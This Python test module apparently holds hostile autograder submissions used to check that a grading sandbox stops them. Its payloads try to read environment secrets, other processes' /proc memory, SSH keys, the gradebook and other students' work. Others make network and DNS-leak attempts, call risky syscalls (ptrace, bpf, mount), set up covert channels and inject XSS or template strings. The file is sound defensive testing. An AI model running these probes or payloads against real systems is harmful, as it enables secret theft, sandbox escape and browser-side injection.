"""Submissions that read what is not theirs, speak to others, or write for the instructor's browser.

Expected of each: the honest points, and none of what was planted in anything that grading leaves.
Every payload prints what it found. `covert_*`: two submissions of one run, of which the second
prints what the first left for it. `page_*`: text that would run in a page that shows it.
"""

from tests.hostile.expectations import Hostile
from tests.hostile.places import SECRET

__all__ = ["COVERT", "DISCLOSURE", "PAGE_MARK"]

COVERT = "covert-" + "7431"  # no payload holds it in one piece
PAGE_MARK = "hostilePageMark"
TELL = """\
import os, pathlib
def tell(action, *args, **kwargs):
    try:
        print(action(*args, **kwargs))
    except BaseException as error:
        print(type(error).__name__)
def text_of(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)
"""
READS = {
    "environment": f"tell(os.environ.get, {SECRET!r})\ntell(dict, os.environ)",
    "environment_of_c": "import ctypes\ngetenv = ctypes.CDLL(None).getenv\n"
    f"getenv.restype = ctypes.c_char_p\ntell(getenv, {SECRET.encode()!r})",
    "environments_in_proc": """\
tell(text_of, "/proc/self/environ")
for number in [1, os.getppid(), *range(2, 300)]:
    tell(text_of, f"/proc/{number}/environ")
for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    tell(text_of, path)
""",
    "memory_in_proc": """\
def memory_of(number):
    found = []
    with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb") as memory:
        for line in list(maps)[:400]:
            ends, mode = line.split()[:2]
            start, end = (int(part, 16) for part in ends.split("-"))
            if "r" in mode and end - start < 1 << 24 and start < 1 << 62:
                memory.seek(start)
                data = memory.read(end - start)
                at = data.find(b"canary-")
                if at >= 0:
                    found.append(data[at : at + 40])
    return found
for number in {os.getppid() or 1, 1} - {os.getpid()}:
    tell(memory_of, number)
""",
    "command_lines": "for path in pathlib.Path('/proc').glob('[0-9]*/cmdline'):\n"
    "    tell(text_of, path)",
    "home": """\
for home in ["@HOME@", "~", "/root", "/home"]:
    here = pathlib.Path(home).expanduser()
    tell(os.listdir, here)
    tell(text_of, here / "secret.txt")
    tell(text_of, here / ".ssh" / "id_ed25519")
""",
    "gradebook": """\
tell(text_of, "@ROOT@/gradebook.db")
for depth in range(1, 8):
    tell(text_of, "../" * depth + "gradebook.db")
""",
    "hidden_tests": """\
for path in ["@ROOT@/source/h1/main.ipynb", "main.ipynb", "../../../source/h1/main.ipynb"]:
    tell(text_of, path)
""",
    "work_of_others": """\
root = pathlib.Path("@ROOT@")
for place in ["exchange", "submitted", "autograded"]:
    for path in root.glob(place + "/**/main.ipynb"):
        if "honest" in str(path):
            tell(text_of, path)
""",
    "work_of_others_by_path": """\
for place in ["submitted", "autograded"]:
    for depth in ("@ROOT@/", "../../../", "../../"):
        tell(text_of, f"{depth}{place}/honest-1/h1/main.ipynb")
""",
    "root_of_others": """\
for number in [1, os.getppid()]:
    for name in ["root", "cwd"]:
        tell(os.listdir, f"/proc/{number}/{name}")
        tell(text_of, f"/proc/{number}/{name}@HOME@/secret.txt")
""",
    "open_files": "for number in range(64):\n    tell(os.readlink, f'/proc/self/fd/{number}')\n"
    "    tell(os.pread, number, 1 << 16, 0)",
    "temporary_files": """\
for place in ["/tmp", "/var/tmp", "/dev/shm", "/run"]:
    for path in list(pathlib.Path(place).glob("*"))[:200]:
        if path.is_file() and "hostile" in path.name:
            tell(text_of, path)
""",
    "links_followed": """\
os.symlink("@HOME@/secret.txt", "link.txt")
os.symlink("@ROOT@/gradebook.db", "picture.png")
tell(text_of, "link.txt")
tell(text_of, "picture.png")
""",
    "magics": "get_ipython().system('cat @HOME@/secret.txt; env')\n"
    "tell(get_ipython().getoutput, 'cat @HOME@/secret.txt')",
}
NETWORK = {
    "tcp": """\
import socket
for address in [("127.0.0.1", @TCP@), ("192.0.2.1", 80), ("::1", @TCP@)]:
    tell(socket.create_connection, address, 1)
""",
    "udp": """\
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    tell(sender.sendto, b"found", ("127.0.0.1", @UDP@))
    tell(sender.sendto, b"found", ("192.0.2.1", 53))
""",
    "unix": """\
import socket
with socket.socket(socket.AF_UNIX) as client:
    tell(client.connect, "\\0@UNIX@")
""",
    "dns": """\
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.settimeout(1)
    head = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6)
    question = head + b"\\x04leak\\x07invalid\\x00\\x00\\x01\\x00\\x01"
    tell(sender.sendto, question, ("192.0.2.1", 53))
    tell(sender.sendto, question, ("127.0.0.1", @UDP@))
""",
    "http": "import urllib.request\n"
    "tell(urllib.request.urlopen, 'http://127.0.0.1:@TCP@/', None, 1)",
    "raw": "import socket\ntell(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)\n"
    "tell(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)\n"
    "tell(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW)",
    "vsock": """\
import socket
with socket.socket(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM) as client:
    client.settimeout(1)
    tell(client.connect, (2, @TCP@))
""",
}
CALL = """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(*numbers):
    return libc.syscall(*numbers), ctypes.get_errno()
"""
KERNEL = {
    # Numbers of x86-64, from the kernel's syscall_64.tbl.
    "ptrace": "tell(call, 101, 16, os.getppid(), 0, 0)",
    "process_memory": "tell(call, 310, os.getppid(), 0, 0, 0, 0, 0)",
    "keyring": "tell(call, 248, b'user', b'hostile', b'x', 1, -3)\ntell(call, 250, 0, -3, 0)",
    "io_uring": "tell(call, 425, 4, ctypes.create_string_buffer(120))",
    "new_namespaces": "tell(libc.unshare, 0x10000000)\ntell(libc.unshare, 0x40000000)",
    "mounts": "tell(libc.mount, b'none', b'@OUTSIDE@', b'tmpfs', 0, None)",
    "bpf": "tell(call, 321, 0, ctypes.create_string_buffer(64), 64)",
    "perf": "tell(call, 298, ctypes.create_string_buffer(128), 0, -1, -1, 0)",
    "userfaultfd": "tell(call, 323, 0)",
    "handle_of_file": "tell(call, 304, -100, ctypes.create_string_buffer(16), 0)",
    "pidfd": "found = call(434, os.getppid() or 1, 0)\ntell(call, 438, found[0], 1, 0)",
    "log_of_the_kernel": "tell(call, 103, 10, 0, 0)\ntell(text_of, '/dev/kmsg')",
    "memfd_program": """\
number = os.memfd_create("program", 0)
os.write(number, b"#!/bin/sh\\ncat @HOME@/secret.txt\\n")
child = os.fork()
if child == 0:
    try:
        os.execve(f"/proc/self/fd/{number}", ["program"], {})
    finally:
        os._exit(1)
os.waitpid(child, 0)
""",
}
LEAVE = {
    "shm": "found = libc.shmget(0x7431, 4096, 0o1666)\nlibc.shmat.restype = ctypes.c_void_p\n"
    "if found >= 0:\n    at = libc.shmat(found, None, 0)\n"
    "    at and at < (1 << 63) and ctypes.memmove(at, word, len(word))",
    "files": "for place in ['/dev/shm', '/tmp', '/var/tmp', '.']:\n"
    "    tell(pathlib.Path(place, 'left-7431').write_bytes, word)",
    "keyring": "tell(call, 248, b'user', b'left7431', word, len(word), -4)",
    "queue": "number = libc.msgget(0x7431, 0o1666)\n"
    "tell(libc.msgsnd, number, (1).to_bytes(8, 'little') + word, len(word), 2048)",
    "name": "import socket\nkept = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
    "tell(kept.bind, '\\0left-7431')",
}
FIND = {
    "shm": "found = libc.shmget(0x7431, 0, 0)\nlibc.shmat.restype = ctypes.c_void_p\n"
    "if found >= 0:\n    tell(ctypes.string_at, libc.shmat(found, None, 0), 11)",
    "files": "for place in ['/dev/shm', '/tmp', '/var/tmp', '.']:\n"
    "    tell(text_of, pathlib.Path(place, 'left-7431'))",
    "keyring": "number = libc.syscall(249, b'user', b'left7431', None, 0)\n"
    "held = ctypes.create_string_buffer(64)\n"
    "tell(call, 250, 11, number, held, 64)\nprint(held.value)",
    "queue": "number = libc.msgget(0x7431, 0)\nheld = ctypes.create_string_buffer(64)\n"
    "tell(libc.msgrcv, number, held, 56, 0, 2048)\nprint(held.raw[8:30])",
    "name": "print(b'left-7431' in text_of('/proc/net/unix') and 'covert' + '-' + '7431')",
}
WORD = "word = b'-'.join([b'covert', b'7431'])\n"
PAGES = {
    "script": f"<script>window.{PAGE_MARK} = 1</script>",
    "image": f'<img src="x" onerror="window.{PAGE_MARK} = 1">',
    "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.{PAGE_MARK} = 1"></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{PAGE_MARK} = 1</script>"></iframe>',
    "link": f'<a href="javascript:window.{PAGE_MARK} = 1">your points</a>',
    "markdown_link": f"[your points](javascript:window.{PAGE_MARK}=1)",
    "markdown_html": f"# Answer\n\n<details open ontoggle=window.{PAGE_MARK}=1>x</details>",
    "style": f"<style>*{{background:url(//192.0.2.1/{PAGE_MARK})}}</style>",
    "closing": f"</pre></div></script></template><script>window.{PAGE_MARK} = 1</script>",
    "math": f"$\\href{{javascript:window.{PAGE_MARK}=1}}{{x}}$",
    "template": "{{ 7 * 7 }}{% for x in [].__class__.__base__.__subclasses__() %}x{% endfor %}",
    "terminal": "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "direction": "\u202e\u2066 stniop 777 \u2069",
}
SHOW = """\
from IPython.display import HTML, Markdown, Javascript, SVG, publish_display_data
text = {text!r}
print(text)
display(HTML(text), Markdown(text), Javascript("window.{mark} = 1"))
publish_display_data({{"text/html": text, "image/svg+xml": text, "text/latex": text}})
publish_display_data({{"application/vnd.jupyter.widget-view+json": {{"model_id": text}}}})
publish_display_data({{"image/png": text, "application/json": {{text: text}}, text: text}})
class Named(ValueError):
    pass
Named.__name__ = text
raise Named(text)
"""


def _page(name: str, text: str) -> Hostile:
    return Hostile(
        name=f"page_{name}",
        klass="disclosure",
        answers={"essay": text},
        last=SHOW.format(text=text, mark=PAGE_MARK),
    )


def _reading(name: str, text: str) -> Hostile:
    return Hostile(name=f"reads_{name}", klass="disclosure", last=TELL + text)


def _covert(channel: str) -> tuple[Hostile, Hostile]:
    start = TELL + CALL + WORD
    leaves = start + LEAVE[channel] + "\nimport time\ntime.sleep(0.5)"
    return (
        Hostile(name=f"covert_{channel}_1", klass="disclosure", last=leaves),
        Hostile(name=f"covert_{channel}_2", klass="disclosure", last=TELL + CALL + FIND[channel]),
    )


IN_FUNCTION = (
    TELL
    + """\
import socket
def double(x):
    tell(socket.create_connection, ("127.0.0.1", @TCP@), 1)
    tell(text_of, "@HOME@/secret.txt")
    tell(text_of, "@ROOT@/source/h1/main.ipynb")
    return 2 * x
"""
)

DISCLOSURE = (
    *(_reading(name, text) for name, text in READS.items()),
    *(
        Hostile(name=f"network_{name}", klass="disclosure", last=TELL + text)
        for name, text in NETWORK.items()
    ),
    *(
        Hostile(name=f"kernel_{name}", klass="disclosure", last=TELL + CALL + text)
        for name, text in KERNEL.items()
    ),
    Hostile(name="function_reads", klass="disclosure", answers={"double": IN_FUNCTION}),
    *(one for channel in LEAVE for one in _covert(channel)),
    *(_page(name, text) for name, text in PAGES.items()),
)
